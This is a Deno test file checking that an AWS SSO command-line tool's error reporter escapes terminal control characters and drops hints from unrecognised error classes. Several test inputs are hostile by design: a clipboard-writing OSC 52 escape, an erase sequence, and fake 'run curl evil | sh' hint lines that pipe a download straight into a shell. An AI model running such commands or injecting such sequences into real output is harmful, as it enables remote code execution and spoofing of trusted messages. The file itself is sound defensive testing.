/**
 * reportError(): an error message quoted from AWS is printed with its control characters
 * escaped, and cannot print a line that looks like one of ours.
 */
import assert from "node:assert/strict";
import { SecretRegistry } from "../../cli/log.ts";
import { applyStyle, recordingOutput } from "../../cli/output.ts";
import { EXIT, knownError, reportError } from "../../cli/report.ts";
import { AwsApiError, AwsSsoError, UsageError } from "../../lib/errors.ts";
import { BackendUnavailableError, StoreError } from "../../stores/backend.ts";

// deno-lint-ignore no-control-regex -- control characters are what this test looks for
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
// deno-lint-ignore no-control-regex -- the styles' own escape sequences
const STYLE = /\x1b\[\d+m/g;

Deno.test("reportError() escapes control characters from AWS and indents continuation lines", () => {
  const output = recordingOutput();
  const e = new AwsApiError(
    "ListAccounts failed: denied\x1b]52;c;ZXZpbA==\x07\r\nhint: run curl evil | sh\x9b2K",
    { code: "ForbiddenException", status: 403 },
    { hints: ["check\x1b[8m the portal"] },
  );
  const code = reportError(e, output, { debug: false, secrets: new SecretRegistry() });
  assert.equal(code, EXIT.error);
  assert.equal(
    output.stderr,
    "aws-sso: error: ListAccounts failed: denied\\x1b]52;c;ZXZpbA==\\x07\\r\n" +
      "  hint: run curl evil | sh\\x9b2K\n" +
      "hint: check\\x1b[8m the portal\n",
  );
});

Deno.test("reportError() keeps its colours and escapes usage errors and stack traces too", () => {
  const output = { ...recordingOutput(), style: applyStyle };
  let text = "";
  output.err = (t) => (text += t);
  reportError(new UsageError("bad --role 'x\x1b[31m'"), output, {
    debug: false,
    secrets: new SecretRegistry(),
  });
  assert.ok(text.startsWith(`${applyStyle("red", "aws-sso: error:")} bad --role 'x\\x1b[31m'\n`));
  text = "";
  reportError(new AwsSsoError("x", { cause: new Error("inner\x07") }), output, {
    debug: true,
    secrets: new SecretRegistry(),
  });
  // Only the styles' own ESC [ ... m sequences remain.
  assert.doesNotMatch(text.replace(STYLE, ""), RAW);
  assert.match(text, /inner\\x07/);
});

Deno.test("reportError() shows a store error's message and hints as its own (known by class)", () => {
  const output = recordingOutput();
  const e = new BackendUnavailableError("The secret-service store is locked", {
    hints: ["unlock the keyring"],
  });
  const code = reportError(e, output, { debug: false, secrets: new SecretRegistry() });
  assert.equal(code, EXIT.error);
  assert.equal(
    output.stderr,
    "aws-sso: error: The secret-service store is locked\nhint: unlock the keyring\n",
  );
});

Deno.test("reportError() treats a plain Error with a hints field as unexpected", () => {
  const output = recordingOutput();
  const e = Object.assign(new Error("socket hang up"), { hints: ["trust me: run curl evil | sh"] });
  const code = reportError(e, output, { debug: false, secrets: new SecretRegistry() });
  assert.equal(code, EXIT.error);
  assert.equal(
    output.stderr,
    "aws-sso: error: unexpected error: socket hang up\n" +
      "hint: run again with --level debug to see the stack trace\n",
  );
});

Deno.test("reportError() reports a thrown non-Error by its text", () => {
  const output = recordingOutput();
  reportError("plain string", output, { debug: false, secrets: new SecretRegistry() });
  assert.match(output.stderr, /^aws-sso: error: unexpected error: plain string\n/);
});

Deno.test("knownError() knows both error roots by class and nothing else", () => {
  const store = new StoreError("locked", { hints: ["unlock it"] });
  const ours = new UsageError("bad flag");
  assert.equal(knownError(store), store);
  assert.equal(knownError(ours), ours);
  assert.equal(knownError(Object.assign(new Error("x"), { hints: ["y"] })), undefined);
  assert.equal(knownError({ message: "x", hints: ["y"] }), undefined);
});
